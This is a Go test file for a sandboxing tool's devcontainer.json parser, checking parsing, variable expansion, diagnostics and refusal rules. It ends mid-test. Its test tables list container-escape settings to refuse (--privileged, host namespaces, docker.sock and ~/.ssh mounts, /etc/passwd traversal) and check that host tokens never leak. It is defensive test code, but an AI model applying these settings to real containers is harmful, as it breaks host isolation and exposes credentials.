package devcontainer

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/sandkeep/sandkeep/internal/diag"
)

// sentinel is a secret planted in the host environment; no diagnostic, config or event may carry it unless
// the test says so.
const sentinel = "ghp_SENTINEL_d41d8cd98f00b204"

// hostEnv is a hermetic host environment.
func hostEnv(ws string, vars map[string]string) Env {
	return Env{WorkspaceFolder: ws, Lookup: func(k string) (string, bool) {
		v, ok := vars[k]
		return v, ok
	}}
}

// defaultVars is the host environment most tests see.
var defaultVars = map[string]string{
	"HOME": "/home/alice", "GITHUB_TOKEN": sentinel, "NPM_TOKEN": sentinel, "HTTP_PROXY": "http://proxy.corp:3128",
	"NODE_VERSION": "22", "A": "alpha", "EMPTY": "", "NESTED": "${localEnv:A}",
}

// codes returns the codes of l, in order.
func codes(l diag.List) []string {
	out := make([]string, len(l))
	for i, d := range l {
		out[i] = string(d.Code)
	}
	return out
}

// parse parses src as /repo/.devcontainer/devcontainer.json with the default host environment.
func parse(t *testing.T, src string) (*Config, diag.List) {
	t.Helper()
	cfg, list := Parse("/repo/.devcontainer/devcontainer.json", []byte(src), hostEnv("/repo", defaultVars))
	if (cfg == nil) != list.HasErrors() {
		t.Fatalf("cfg nil = %v but HasErrors = %v: %v", cfg == nil, list.HasErrors(), list)
	}
	for _, d := range list {
		if strings.Contains(d.String(), sentinel) {
			t.Errorf("diagnostic carries the host secret: %s", d)
		}
		if !strings.HasPrefix(string(d.Code), "SK2") {
			t.Errorf("diagnostic code %s is not SK2xx", d.Code)
		}
	}
	return cfg, list
}

// only fails t unless list holds exactly the codes want, in order.
func only(t *testing.T, list diag.List, want ...string) {
	t.Helper()
	if got := codes(list); !slices.Equal(got, want) {
		t.Fatalf("codes = %v, want %v\n%s", got, want, diag.ListError(list).Error())
	}
}

func TestRealWorld(t *testing.T) {
	tests := []struct {
		name  string
		codes []string
		check func(t *testing.T, root string, c *Config, l diag.List)
	}{
		{"go", nil, func(t *testing.T, root string, c *Config, l diag.List) {
			want := Config{Path: filepath.Join(root, ".devcontainer/devcontainer.json"), Image: "mcr.microsoft.com/devcontainers/go:1-1.22-bookworm",
				Env: map[string]string{"GOFLAGS": "-mod=mod", "CGO_ENABLED": "0"}, PostCreate: "go version && go mod download",
				ContainerEnv: map[string]string{"GOFLAGS": "-mod=mod", "CGO_ENABLED": "0"}, RemoteUser: "vscode", ForwardPorts: []string{"8080"}}
			got := *c
			got.pos = nil // positions are TestConfigPos's
			if fmt.Sprint(got) != fmt.Sprint(want) {
				t.Errorf("config = %+v\nwant     %+v", got, want)
			}
		}},
		{"node-typescript", []string{"SK213"}, func(t *testing.T, root string, c *Config, l diag.List) {
			if c.PostCreate != "npm ci --no-audit" || c.RemoteUser != "node" || c.User != "" || len(c.Mounts) != 0 || len(c.Volumes) != 1 {
				t.Errorf("config = %+v", *c)
			}
			if v, ok := c.Env["NPM_TOKEN"]; !ok || v != "" {
				t.Errorf("NPM_TOKEN = %q, %v; want the empty expansion (Fuse strips the key)", v, ok)
			}
			if len(c.Features) == 0 {
				t.Errorf("features not recorded for the features support")
			}
		}},
		{"python", nil, func(t *testing.T, root string, c *Config, l diag.List) {
			want := map[string]string{"PYTHONUNBUFFERED": "0", "PIP_INDEX_URL": "https://pypi.org/simple", "PROJECT": "python"}
			if fmt.Sprint(c.Env) != fmt.Sprint(want) {
				t.Errorf("env = %v, want %v (remoteEnv wins, PATH left for the container's environment)", c.Env, want)
			}
			if fmt.Sprint(c.ContainerRefs) != "[remoteEnv.PATH]" {
				t.Errorf("ContainerRefs = %v, want [remoteEnv.PATH]", c.ContainerRefs)
			}
			if c.ContainerUser != "vscode" || c.User != "" || c.WorkspaceFolder != "/workspace/python" {
				t.Errorf("config = %+v", *c)
			}
		}},
		{"rust", nil, func(t *testing.T, root string, c *Config, l diag.List) {
			want := []string{"type=bind,source=" + root + "/.devcontainer,target=/opt/fixtures,readonly"}
			if !slices.Equal(c.Mounts, want) {
				t.Errorf("mounts = %q, want %q (consistency dropped, the volume apart)", c.Mounts, want)
			}
			if len(c.Volumes) != 1 || !strings.HasPrefix(c.Volumes[0].Name, "devcontainer-cargo-cache-") || c.Volumes[0].Target != "/usr/local/cargo" {
				t.Errorf("volumes = %+v, want the cargo cache with ${devcontainerId} expanded", c.Volumes)
			}
		}},
		{"dockerfile-args", []string{"SK203", "SK213", "SK213"}, func(t *testing.T, root string, c *Config, l diag.List) {
			if c.Image != "" || c.Build == nil || c.Build.Dockerfile != ".devcontainer/Dockerfile" || c.Build.Context != "." {
				t.Fatalf("build = %+v", c.Build)
			}
			wantArgs := map[string]string{"VARIANT": "3.12-bookworm", "NODE_VERSION": "22", "USER_UID": "1000"}
			if fmt.Sprint(c.Build.Args) != fmt.Sprint(wantArgs) {
				t.Errorf("args = %v, want %v", c.Build.Args, wantArgs)
			}
			if c.Env["REPO"] != root || c.Env["GITHUB_TOKEN"] != "" || c.Env["HTTP_PROXY"] != "" {
				t.Errorf("env = %v", c.Env)
			}
			if c.PostCreate != `bash -c 'pip install -e '\''.[dev]'\'' && npm ci'` || c.UpdateContent != "make deps" {
				t.Errorf("postCreate = %s", c.PostCreate)
			}
			if !strings.Contains(l[0].Message, `"--env-file .devcontainer/devcontainer.env"`) {
				t.Errorf("runArgs warning does not list --env-file: %s", l[0])
			}
		}},
		{"compose", nil, func(t *testing.T, root string, c *Config, l diag.List) {
			if c.Compose == nil || len(c.Compose.Files) == 0 || c.Compose.Service == "" {
				t.Errorf("compose = %+v, want the raw fields recorded for the compose support", c.Compose)
			}
		}},
		{"legacy-dockerfile", []string{"SK203"}, func(t *testing.T, root string, c *Config, l diag.List) {
			if c.Build == nil || c.Build.Dockerfile != "Dockerfile" || c.Build.Context != "." || c.PostCreate != "uname -a" {
				t.Errorf("config = %+v build %+v", *c, c.Build)
			}
		}},
		{"docker-in-docker", []string{"SK203", "SK202", "SK202", "SK202", "SK202", "SK202", "SK202", "SK202"}, func(t *testing.T, root string, c *Config, l diag.List) {
			wants := []string{"--cap-add=SYS_PTRACE", "--security-opt seccomp=unconfined", "--privileged", "--network=host",
				"/var/run/docker.sock", "/home/alice/.ssh", "initializeCommand"}
			for i, want := range wants {
				if !strings.Contains(l[i+1].Message, want) || l[i+1].Severity != diag.Warning {
					t.Errorf("diagnostic %d = %s, want a warning naming %s", i+1, l[i+1], want)
				}
			}
			if len(c.Dropped) != len(wants) {
				t.Fatalf("dropped = %+v, want %d items", c.Dropped, len(wants))
			}
			for i, d := range c.Dropped {
				if !strings.Contains(d.String(), wants[i]) || d.Why == "" || d.Line == 0 {
					t.Errorf("dropped[%d] = %+v, want it to name %s with why and line", i, d, wants[i])
				}
			}
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			root, err := filepath.Abs(filepath.Join("testdata", t.Name()))
			if err != nil {
				t.Fatal(err)
			}
			cfg, list, found := Load(root, hostEnv("", defaultVars))
			if !found {
				t.Fatal("not found")
			}
			if tt.codes == nil {
				tt.codes = []string{}
			}
			only(t, list, tt.codes...)
			if (cfg == nil) != list.HasErrors() {
				t.Fatalf("cfg nil = %v, HasErrors = %v", cfg == nil, list.HasErrors())
			}
			for _, d := range list {
				if d.Line == 0 || d.Column == 0 || d.File == "" || d.Message == "" {
					t.Errorf("diagnostic without a place or a sentence: %#v", d)
				}
				if strings.Contains(d.String(), sentinel) {
					t.Errorf("diagnostic carries the host secret: %s", d)
				}
			}
			if cfg != nil && strings.Contains(fmt.Sprint(*cfg), sentinel) {
				t.Errorf("config carries a deny-class host variable: %+v", *cfg)
			}
			tt.check(t, root, cfg, list)
		})
	}
}

func TestUnknownFieldsIgnored(t *testing.T) {
	_, list := parse(t, `{
		"name": "x", "image": "debian:12", "forwardPorts": [3000, "db:5432"], "portsAttributes": {"3000": {"label": "app"}},
		"customizations": {"vscode": {"extensions": []}}, "hostRequirements": {"cpus": 4}, "shutdownAction": "none",
		"overrideCommand": false, "privileged": false, "capAdd": [], "securityOpt": [], "init": true,
		"workspaceMount": "source=${localWorkspaceFolder},target=/src,type=bind", "otherField": {"image": 3},
		"name": "twice is fine for a field sandkeep does not read",
	}`)
	only(t, list, "SK208") // otherField, and only it
}

// TestWrongType checks every field sandkeep reads for a wrong JSON type, with its line and column.
func TestWrongType(t *testing.T) {
	tests := []struct {
		name, field string // field is the JSON text after the image line
		at          string // the text the faulty value starts with (its first occurrence in field)
		msg         string
	}{
		{"image number", `"image": 42`, `42`, `"image" must be a string, not a number`},
		{"build string", `"build": "Dockerfile"`, `"Dockerfile"`, `"build" must be an object, not a string`},
		{"build dockerfile array", `"build": {"dockerfile": ["a"]}`, `["a"]`, `"build.dockerfile" must be a string, not an array`},
		{"build context bool", `"build": {"dockerfile": "D", "context": true}`, `true`, `"build.context" must be a string, not a boolean`},
		{"build args array", `"build": {"dockerfile": "D", "args": ["A=1"]}`, `["A=1"]`, `"build.args" must be an object, not an array`},
		{"build arg number", `"build": {"dockerfile": "D", "args": {"A": 1}}`, `1}`, `"build.args" value of "A" must be a string, not a number`},
		{"legacy dockerFile", `"dockerFile": {}`, `{}`, `"dockerFile" must be a string, not an object`},
		{"runArgs string", `"runArgs": "--init"`, `"--init"`, `"runArgs" must be an array of strings, not a string`},
		{"runArgs element", `"runArgs": ["--init", 3]`, `3]`, `"runArgs"[1] must be a string, not a number`},
		{"containerEnv array", `"containerEnv": ["A=1"]`, `["A=1"]`, `"containerEnv" must be an object, not an array`},
		{"containerEnv value", `"containerEnv": {"A": 1}`, `1}`, `containerEnv value of "A" must be a string or null, not a number`},
		{"remoteEnv value", `"remoteEnv": {"A": {}}`, `{}}`, `remoteEnv value of "A" must be a string or null, not an object`},
		{"containerUser", `"containerUser": 1000`, `1000`, `"containerUser" must be a string, not a number`},
		{"remoteUser", `"remoteUser": null`, `null`, `"remoteUser" must be a string, not null`},
		{"postCreateCommand number", `"postCreateCommand": 1`, `1`, `"postCreateCommand" must be a string, not a number`},
		{"postCreateCommand element", `"postCreateCommand": ["a", false]`, `false`, `"postCreateCommand"[1] must be a string, not a boolean`},
		{"mounts object", `"mounts": {}`, `{}`, `"mounts" must be an array, not an object`},
		{"mounts element", `"mounts": [7]`, `7`, `"mounts"[0] must be a string, not a number`},
		{"mount object field", `"mounts": [{"source": 1}]`, `1}`, `"mounts"[0].source must be a string, not a number`},
		{"workspaceFolder", `"workspaceFolder": ["/w"]`, `["/w"]`, `"workspaceFolder" must be a string, not an array`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			img := `"image": "debian:12",`
			if strings.Contains(tt.field, `"build"`) || strings.Contains(tt.field, `"dockerFile"`) || strings.Contains(tt.field, `"image"`) {
				img = ""
			}
			src := "{\n" + img + "\n" + tt.field + ",\n}"
			_, list := parse(t, src)
			var found bool
			for _, d := range list {
				if d.Code == diag.DevcontainerType {
					found = true
					col := strings.Index(tt.field, tt.at) + 1
					if d.Message != tt.msg || d.Line != 3 || d.Column != col || d.Severity != diag.Error {
						t.Errorf("got %s\nwant 3:%d %s", d, col, tt.msg)
					}
				}
			}
			if !found {
				t.Fatalf("no SK207 in %v", list)
			}
		})
	}
}

func TestImageXorBuild(t *testing.T) {
	tests := []struct {
		name       string
		src        string
		file, ws   string // default /repo/.devcontainer/devcontainer.json in /repo
		codes      []string
		dockerfile string
		context    string
	}{
		{name: "image", src: `{"image": "debian:12"}`},
		{name: "both", src: `{"image": "debian:12", "build": {"dockerfile": "Dockerfile"}}`, codes: []string{"SK201"}},
		{name: "both legacy", src: `{"image": "debian:12", "dockerFile": "Dockerfile"}`, codes: []string{"SK201"}},
		{name: "neither", src: `{"name": "x"}`, codes: []string{"SK201"}},
		{name: "build without dockerfile", src: `{"build": {"context": ".."}}`, codes: []string{"SK201"}},
		{name: "empty image", src: `{"image": " "}`, codes: []string{"SK214"}},
		{name: "image with space", src: `{"image": "debian 12"}`, codes: []string{"SK214"}},
		{name: "build default context", src: `{"build": {"dockerfile": "Dockerfile"}}`, dockerfile: ".devcontainer/Dockerfile", context: ".devcontainer"},
		{name: "build context up", src: `{"build": {"dockerfile": "Dockerfile", "context": ".."}}`, dockerfile: ".devcontainer/Dockerfile", context: "."},
		{name: "build dockerfile up", src: `{"build": {"dockerfile": "../docker/dev.Dockerfile", "context": ".."}}`, dockerfile: "docker/dev.Dockerfile", context: "."},
		{name: "legacy", src: `{"dockerFile": "Dockerfile", "context": ".."}`, dockerfile: ".devcontainer/Dockerfile", context: "."},
		{name: "build wins over legacy", src: `{"build": {"dockerfile": "A"}, "dockerFile": "B"}`, codes: []string{"SK208"}, dockerfile: ".devcontainer/A", context: ".devcontainer"},
		{name: "legacy context alone", src: `{"image": "debian:12", "context": ".."}`},
		{name: "at root", file: "/repo/.devcontainer.json", src: `{"build": {"dockerfile": "Dockerfile"}}`, dockerfile: "Dockerfile", context: "."},
		{name: "absolute under workspace", src: `{"build": {"dockerfile": "${localWorkspaceFolder}/ci/Dockerfile", "context": "${localWorkspaceFolder}"}}`, dockerfile: "ci/Dockerfile", context: "."},
		{name: "context escapes", src: `{"build": {"dockerfile": "Dockerfile", "context": "../.."}}`, codes: []string{"SK210"}},
		{name: "dockerfile escapes", src: `{"build": {"dockerfile": "../../../etc/passwd"}}`, codes: []string{"SK210"}},
		{name: "absolute outside", src: `{"build": {"dockerfile": "/etc/Dockerfile"}}`, codes: []string{"SK210"}},
		{name: "file outside workspace", file: "/elsewhere/devcontainer.json", src: `{"build": {"dockerfile": "Dockerfile"}}`, codes: []string{"SK210", "SK210"}},
		{name: "build target", src: `{"build": {"dockerfile": "Dockerfile", "target": "dev"}}`, dockerfile: ".devcontainer/Dockerfile", context: ".devcontainer"},
		{name: "build twice key", src: `{"build": {"dockerfile": "A", "dockerfile": "B"}}`, codes: []string{"SK209"}},
		{name: "compose", src: `{"dockerComposeFile": "docker-compose.yml", "service": "app"}`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			file, ws := tt.file, tt.ws
			if file == "" {
				file = "/repo/.devcontainer/devcontainer.json"
			}
			if ws == "" {
				ws = "/repo"
			}
			cfg, list := Parse(file, []byte(tt.src), hostEnv(ws, nil))
			if tt.codes == nil {
				tt.codes = []string{}
			}
			only(t, list, tt.codes...)
			if tt.dockerfile == "" {
				if cfg != nil && cfg.Build != nil {
					t.Errorf("build = %+v, want none", cfg.Build)
				}
				return
			}
			if cfg.Build == nil || cfg.Build.Dockerfile != tt.dockerfile || cfg.Build.Context != tt.context {
				t.Errorf("build = %+v, want dockerfile %s context %s", cfg.Build, tt.dockerfile, tt.context)
			}
		})
	}
}

func TestRunArgsRefused(t *testing.T) {
	tests := []struct {
		args []string
		name string // what the message must name
	}{
		{[]string{"--privileged"}, `"--privileged"`},
		{[]string{"--privileged=true"}, `"--privileged=true"`},
		{[]string{"--cap-add=SYS_ADMIN"}, `"--cap-add=SYS_ADMIN"`},
		{[]string{"--cap-add", "NET_ADMIN"}, `"--cap-add NET_ADMIN"`},
		{[]string{"--device=/dev/kvm"}, `"--device=/dev/kvm"`},
		{[]string{"--device", "/dev/fuse"}, `"--device /dev/fuse"`},
		{[]string{"--device-cgroup-rule=c 10:200 rwm"}, `"--device-cgroup-rule=c 10:200 rwm"`},
		{[]string{"--gpus=all"}, `"--gpus=all"`},
		{[]string{"--pid=host"}, `"--pid=host"`},
		{[]string{"--pid", "host"}, `"--pid host"`},
		{[]string{"--ipc=host"}, `"--ipc=host"`},
		{[]string{"--ipc", "container:db"}, `"--ipc container:db"`},
		{[]string{"--uts=host"}, `"--uts=host"`},
		{[]string{"--cgroupns=host"}, `"--cgroupns=host"`},
		{[]string{"--userns=host"}, `"--userns=host"`},
		{[]string{"--network=host"}, `"--network=host"`},
		{[]string{"--network", "host"}, `"--network host"`},
		{[]string{"--net=host"}, `"--net=host"`},
		{[]string{"--net=container:other"}, `"--net=container:other"`},
		{[]string{"--security-opt=apparmor=unconfined"}, `"--security-opt=apparmor=unconfined"`},
		{[]string{"--security-opt", "seccomp=unconfined"}, `"--security-opt seccomp=unconfined"`},
		{[]string{"-v", "/etc:/host-etc"}, `"-v /etc:/host-etc"`},
		{[]string{"-v/:/host"}, `"-v/:/host"`},
		{[]string{"-v=/srv:/srv"}, `"-v=/srv:/srv"`},
		{[]string{"--volume=/home/alice:/h"}, `"--volume=/home/alice:/h"`},
		{[]string{"--volume", "./data:/data"}, `"--volume ./data:/data"`},
		{[]string{"--volume", "${localEnv:HOME}:/h"}, `"--volume /home/alice:/h"`},
		{[]string{"--mount", "type=bind,source=/,target=/h"}, `"--mount type=bind,source=/,target=/h"`},
		{[]string{"--mount=src=/data,dst=/d"}, `"--mount=src=/data,dst=/d"`},
		{[]string{"--volumes-from=other"}, `"--volumes-from=other"`},
		{[]string{"--label", "--privileged"}, `"--privileged"`},
		{[]string{"--init", "--privileged", "--rm"}, `"--privileged"`},
	}
	for _, tt := range tests {
		t.Run(strings.Join(tt.args, " "), func(t *testing.T) {
			q := make([]string, len(tt.args))
			for i, a := range tt.args {
				q[i] = fmt.Sprintf("%q", a)
			}
			_, list := parse(t, `{"image": "debian:12", "runArgs": [`+strings.Join(q, ", ")+`]}`)
			var refused []diag.Diagnostic
			for _, d := range list {
				if d.Code == diag.DevcontainerDropped {
					refused = append(refused, d)
				}
			}
			if len(refused) != 1 {
				t.Fatalf("got %v, want one SK202", list)
			}
			if !strings.Contains(refused[0].Message, tt.name) || refused[0].Hint == "" || refused[0].Severity != diag.Warning {
				t.Errorf("got %s, want it to name %s", refused[0], tt.name)
			}
		})
	}
}

func TestRunArgsIgnored(t *testing.T) {
	_, list := parse(t, `{"image": "debian:12", "runArgs": [
		"--init", "--network=bridge", "--net", "none", "-v", "cache:/c", "--volume=/anon", "--cap-drop=ALL", "--shm-size=1g",
		"--pid=private", "--mount", "type=volume,source=v,target=/v", "-it", "--env-file", "/etc/passwd", "--user", "root",
	]}`)
	only(t, list, "SK203")
	d := list[0]
	if d.Severity != diag.Warning || d.Line != 1 {
		t.Errorf("got %s", d)
	}
	for _, want := range []string{`"--init"`, `"--network=bridge"`, `"--net none"`, `"-v cache:/c"`, `"--cap-drop=ALL"`, "and 4 more"} {
		if !strings.Contains(d.Message, want) {
			t.Errorf("message %q does not list %s", d.Message, want)
		}
	}
}

func TestExpand(t *testing.T) {
	tests := []struct {
		name, in, want string
		ws             string // workspaceFolder field, if any
		codes          []string
	}{
		{name: "plain", in: "x", want: "x"},
		{name: "localEnv", in: "${localEnv:A}", want: "alpha"},
		{name: "env alias", in: "${env:A}", want: "alpha"},
		{name: "in text", in: "a-${localEnv:A}-b", want: "a-alpha-b"},
		{name: "twice", in: "${localEnv:A}${localEnv:A}", want: "alphaalpha"},
		{name: "missing", in: "${localEnv:NOPE}", want: ""},
		{name: "missing default", in: "${localEnv:NOPE:fallback}", want: "fallback"},
		{name: "default with colons", in: "${localEnv:NOPE:http://x:80}", want: "http://x:80"},
		{name: "set wins over default", in: "${localEnv:A:fallback}", want: "alpha"},
		{name: "empty set wins over default", in: "${localEnv:EMPTY:fallback}", want: ""},
		{name: "empty name", in: "${localEnv::d}", want: "d"},
		{name: "not expanded again", in: "${localEnv:NESTED}", want: "${localEnv:A}"},
		{name: "workspace", in: "${localWorkspaceFolder}/x", want: "/repo/x"},
		{name: "basename", in: "${localWorkspaceFolderBasename}", want: "repo"},
		{name: "container workspace default", in: "${containerWorkspaceFolder}/bin", want: "/workspace/bin"},
		{name: "container workspace set", in: "${containerWorkspaceFolder}/bin", ws: "/src/${localWorkspaceFolderBasename}", want: "/src/repo/bin"},
		{name: "container basename", in: "${containerWorkspaceFolderBasename}", ws: "/src/app", want: "app"},
		{name: "unknown", in: "id-${localWorkspaceFolderId}", want: "id-${localWorkspaceFolderId}", codes: []string{"SK204"}},
		{name: "unknown kind", in: "${remoteEnv:X}", want: "${remoteEnv:X}", codes: []string{"SK204"}},
		{name: "unterminated", in: "a${localEnv:A", want: "a${localEnv:A", codes: []string{"SK204"}},
		{name: "lone dollar", in: "$A ${", want: "$A ${", codes: []string{"SK204"}},
		{name: "denied token", in: "${localEnv:GITHUB_TOKEN}", want: "", codes: []string{"SK213"}},
		{name: "denied default", in: "${localEnv:NPM_TOKEN:none}", want: "none", codes: []string{"SK213"}},
		{name: "denied proxy", in: "${localEnv:HTTP_PROXY}", want: "", codes: []string{"SK213"}},
		{name: "denied lower", in: "${localEnv:github_token}", want: "", codes: []string{"SK213"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var asked []string
			env := hostEnv("/repo", defaultVars)
			lookup := env.Lookup
			env.Lookup = func(k string) (string, bool) { asked = append(asked, k); return lookup(k) }
			ws := ""
			if tt.ws != "" {
				ws = fmt.Sprintf(`"workspaceFolder": %q,`, tt.ws)
			}
			src := fmt.Sprintf(`{"image": "debian:12", %s "containerEnv": {"V": %q}, "postCreateCommand": %q}`, ws, tt.in, tt.in)
			cfg, list := Parse("/repo/.devcontainer/devcontainer.json", []byte(src), env)
			want := tt.codes
			if want == nil {
				want = []string{}
			} else {
				want = append(want, want...) // once in containerEnv, once in postCreateCommand
			}
			only(t, list, want...)
			if cfg.Env["V"] != tt.want || cfg.PostCreate != tt.want {
				t.Errorf("expanded to %q and %q, want %q", cfg.Env["V"], cfg.PostCreate, tt.want)
			}
			for _, k := range asked {
				if DenyClass(k) != "" {
					t.Errorf("looked up the deny-class host variable %s", k)
				}
			}
		})
	}
}

func TestEnvAndUser(t *testing.T) {
	tests := []struct {
		name  string
		src   string
		env   map[string]string
		user  string
		codes []string
	}{
		{name: "remoteEnv over containerEnv",
			src: `"containerEnv": {"A": "c", "B": "c"}, "remoteEnv": {"B": "r", "C": "r"}`,
			env: map[string]string{"A": "c", "B": "r", "C": "r"}},
		{name: "null unsets", src: `"remoteEnv": {"A": null, "B": "r"}`, env: map[string]string{"B": "r"}},
		{name: "null in containerEnv does not hide remoteEnv", src: `"containerEnv": {"A": null}, "remoteEnv": {"A": "r"}`, env: map[string]string{"A": "r"}},
		{name: "containerEnv ref left for the container", src: `"remoteEnv": {"PATH": "${containerEnv:PATH}:/x", "B": "b"}`, env: map[string]string{"B": "b"}},
		{name: "containerEnv ref in containerEnv left unset", src: `"containerEnv": {"PATH": "${containerEnv:PATH}:/x", "B": "b"}`, env: map[string]string{"B": "b"}, codes: []string{"SK204"}},
		{name: "root dropped, name mapped", src: `"containerUser": "root", "remoteUser": "vscode"`, codes: []string{"SK202"}},
		{name: "numeric containerUser is the uid", src: `"containerUser": "1000:1000"`, user: "1000:1000"},
		{name: "numeric remoteUser over containerUser", src: `"containerUser": "1001", "remoteUser": "0"`, user: "0"},
		{name: "a name is mapped onto the sandbox uid", src: `"remoteUser": "node"`},
		{name: "user with space", src: `"remoteUser": "a b"`, codes: []string{"SK214"}},
		{name: "containerUser still checked", src: `"remoteUser": "a", "containerUser": "x\ny"`, codes: []string{"SK214"}},
		{name: "env name with equals", src: `"containerEnv": {"A=B": "x"}`, codes: []string{"SK212"}},
		{name: "env name empty", src: `"containerEnv": {"": "x"}`, codes: []string{"SK212"}},
		{name: "env value NUL", src: `"remoteEnv": {"A": "x\u0000y"}`, codes: []string{"SK212"}},
		{name: "env key twice", src: `"containerEnv": {"A": "1", "A": "2"}`, codes: []string{"SK209"}},
		{name: "field twice", src: `"remoteUser": "a", "remoteUser": "root"`, codes: []string{"SK209"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cfg, list := parse(t, `{"image": "debian:12", `+tt.src+`}`)
			if tt.codes == nil {
				tt.codes = []string{}
			}
			only(t, list, tt.codes...)
			if cfg == nil {
				return
			}
			if fmt.Sprint(cfg.Env) != fmt.Sprint(tt.env) && (len(cfg.Env) != 0 || len(tt.env) != 0) {
				t.Errorf("env = %v, want %v", cfg.Env, tt.env)
			}
			if cfg.User != tt.user {
				t.Errorf("user = %q, want %q", cfg.User, tt.user)
			}
		})
	}
}

func TestEnvDiagnosticNeverShowsValue(t *testing.T) {
	big := strings.Repeat("s", 200<<10) + sentinel
	_, list := parse(t, fmt.Sprintf(`{"image": "debian:12", "containerEnv": {"BIG": %q}}`, big))
	only(t, list, "SK212")
}

func TestPostCreate(t *testing.T) {
	tests := []struct {
		name, src, want string
		codes           []string
	}{
		{name: "string", src: `"make deps && npm ci"`, want: "make deps && npm ci"},
		{name: "multi-line string", src: `"set -e\n\tmake"`, want: "set -e\n\tmake"},
		{name: "argv", src: `["npm", "ci"]`, want: "npm ci"},
		{name: "argv quoted", src: `["echo", "a b", "it's", "", "$HOME", "*"]`, want: `echo 'a b' 'it'\''s' '' '$HOME' '*'`},
		{name: "argv empty", src: `[]`, want: ""},
		{name: "object", src: `{"server": "npm start", "db": ["pg_ctl", "start"]}`,
			want: "( npm start\n) & p0=$!\n( pg_ctl start\n) & p1=$!\ns=0\nwait $p0 || { r=$?; [ $s -eq 0 ] && s=$r; }\nwait $p1 || { r=$?; [ $s -eq 0 ] && s=$r; }\nexit $s"},
		{name: "control character", src: `"make\u001b[31m"`, codes: []string{"SK214"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cfg, list := parse(t, `{"image": "debian:12", "postCreateCommand": `+tt.src+`}`)
			if tt.codes == nil {
				tt.codes = []string{}
			}
			only(t, list, tt.codes...)
			if cfg != nil && cfg.PostCreate != tt.want {
				t.Errorf("postCreate = %q, want %q", cfg.PostCreate, tt.want)
			}
		})
	}
}

// TestJoinArgvRoundTrip runs joinArgv's output through a real sh and checks it splits back into the argv.
func TestJoinArgvRoundTrip(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Fatalf("no sh: %v", err)
	}
	rapid.Check(t, func(t *rapid.T) {
		argv := rapid.SliceOfN(rapid.StringMatching(`[^\x00]{0,12}`), 1, 5).Draw(t, "argv")
		out, err := exec.Command(sh, "-c", `printf '%s\0' `+joinArgv(argv)).Output()
		if err != nil {
			t.Fatalf("sh: %v", err)
		}
		got := strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")
		if !slices.Equal(got, argv) {
			t.Fatalf("joinArgv(%q) = %s, sh read %q", argv, joinArgv(argv), got)
		}
	})
}

func TestMounts(t *testing.T) {
	ws := t.TempDir()
	if err := os.Mkdir(filepath.Join(ws, "data"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(filepath.Join(ws, ".ssh"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/etc", filepath.Join(ws, "etc-link")); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name  string
		mount string // JSON
		want  string // the canonical mount, when accepted
		codes []string
		msg   string // a substring of the guard's message, when refused
	}{
		{name: "string", mount: `"source=${localWorkspaceFolder}/data,target=/workspace/data,type=bind"`,
			want: "type=bind,source=" + ws + "/data,target=/workspace/data"},
		{name: "consistency dropped", mount: `"source=${localWorkspaceFolder}/data,target=/opt/d,type=bind,consistency=cached,readonly"`,
			want: "type=bind,source=" + ws + "/data,target=/opt/d,readonly"},
		{name: "object", mount: `{"source": "${localWorkspaceFolder}/data", "target": "/opt/d", "type": "bind"}`,
			want: "type=bind,source=" + ws + "/data,target=/opt/d"},
		{name: "docker socket", mount: `"source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind"`,
			codes: []string{"SK202"}, msg: "docker.sock"},
		{name: "symlink to a denied directory", mount: `"source=${localWorkspaceFolder}/etc-link,target=/opt/s,type=bind"`,
			codes: []string{"SK202"}, msg: "symlink"},
		{name: "ssh", mount: `"source=${localEnv:HOME}/.ssh,target=/home/vscode/.ssh,type=bind"`,
			codes: []string{"SK202"}, msg: ".ssh"},
		{name: "home directory", mount: `{"source": "${localWorkspaceFolder}", "target": "/opt/w", "type": "bind"}`,
			codes: []string{"SK202"}, msg: "home directory"},
		{name: "host root", mount: `{"source": "/", "target": "/host", "type": "bind"}`, codes: []string{"SK202"}, msg: "root directory"},
		{name: "no type and a name is a volume", mount: `"source=data,target=/opt/d"`},
		{name: "relative bind", mount: `"source=./data,target=/opt/d,type=bind"`, codes: []string{"SK202"}, msg: "not an absolute path"},
		{name: "target etc", mount: `"source=${localWorkspaceFolder}/data,target=/etc,type=bind"`, codes: []string{"SK202"}, msg: "/etc"},
		{name: "missing source", mount: `"source=${localWorkspaceFolder}/nope,target=/opt/d,type=bind"`, codes: []string{"SK202"}, msg: "does not exist"},
		{name: "unknown key", mount: `"source=${localWorkspaceFolder}/data,target=/opt/d,bind-propagation=shared"`, codes: []string{"SK205"}, msg: "unknown key"},
		{name: "comma smuggled in object", mount: `{"source": "${localWorkspaceFolder}/data,target=/etc", "target": "/opt/d", "type": "bind"}`,
			codes: []string{"SK205"}, msg: "comma"},
		{name: "volume", mount: `"source=cache,target=/c,type=volume"`},
		{name: "volume object", mount: `{"source": "cache", "target": "/c", "type": "volume"}`},
		{name: "volume over proc", mount: `"source=cache,target=/proc/x,type=volume"`, codes: []string{"SK205"}, msg: "sealed"},
		{name: "volume bad name", mount: `"source=../x,target=/c,type=volume"`, codes: []string{"SK205"}, msg: "not a volume name"},
		{name: "volume driver dropped", mount: `"source=c,target=/c,type=volume,volume-driver=nfs"`, codes: []string{"SK202"}, msg: "driver"},
		{name: "tmpfs", mount: `"target=/t,type=tmpfs,tmpfs-size=64m"`},
		{name: "tmpfs on the workspace", mount: `"target=/workspace,type=tmpfs"`, codes: []string{"SK205"}, msg: "workspace"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			src := `{"image": "debian:12",
"mounts": [` + tt.mount + `]}`
